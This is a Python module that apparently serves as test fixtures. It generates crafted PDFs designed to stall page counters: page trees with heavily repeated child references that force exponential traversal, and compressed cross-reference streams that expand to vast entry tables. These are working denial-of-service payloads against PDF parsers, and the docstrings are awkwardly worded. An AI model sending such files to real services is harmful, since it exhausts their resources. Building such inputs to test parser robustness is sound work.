"""PDFs that take a counter of pages long: the ones that attacks of the soak send."""

import struct
import zlib
from typing import Final

_ROW: Final = struct.Struct(">BIH")  # of a table: kind, place, generation


def page_graph(*widths: int) -> bytes:
    """A PDF of some kilobytes whose page tree is a graph, through which a counter would go for seconds."""
    objects = [b"<</Type/Catalog/Pages 2 0 R>>"]
    for level, width in enumerate(widths):
        leaf = b" %d 0 R" % (len(widths) + 4) if level == 0 else b""
        objects.append(b"<</Type/Pages/Kids[" + b" ".join([b"%d 0 R" % (level + 3)] * width) + leaf + b"]>>")
    whole, places = _written([*objects, b"<</Type/Pages/Kids[]>>", b"<</Type/Page>>"])
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(places) + 1
    end = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (count, len(whole))
    return whole + b"xref\n0 %d\n0000000000 65535 f \n" % count + table + end


def long_tables(entries: int, tables: int = 1, padding: int = 0) -> bytes:
    """A PDF of a page whose tables of objects are long: 0.2 us for each entry, of which a million are 7 KB.

    Padding makes it one that may take a counter longer.
    """
    pages, page = b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    whole, places = _written([b"<</Type/Catalog/Pages 2 0 R>>", pages, page])
    whole += b"%" + b"x" * padding + b"\n"
    rows = _ROW.pack(0, 0, 65535) + b"".join(_ROW.pack(1, place, 0) for place in places)
    packed = zlib.compress(rows + bytes(_ROW.size * (entries - 4)), 9)
    known, start = b"/Type/XRef/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Size %d" % entries, 0
    for number in range(4, 4 + tables):
        before, start = b"/Prev %d" % start if start else b"", len(whole)
        whole += b"%d 0 obj\n<<%b%b/Length %d>>\nstream\n" % (number, known, before, len(packed))
        whole += packed + b"\nendstream\nendobj\n"
    return whole + b"startxref\n%d\n%%%%EOF\n" % start


def _written(objects: list[bytes]) -> tuple[bytes, list[int]]:
    """The beginning of a PDF, and where its objects are."""
    whole, places = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, 1):
        places.append(len(whole))
        whole += b"%d 0 obj\n%b\nendobj\n" % (number, text)
    return whole, places
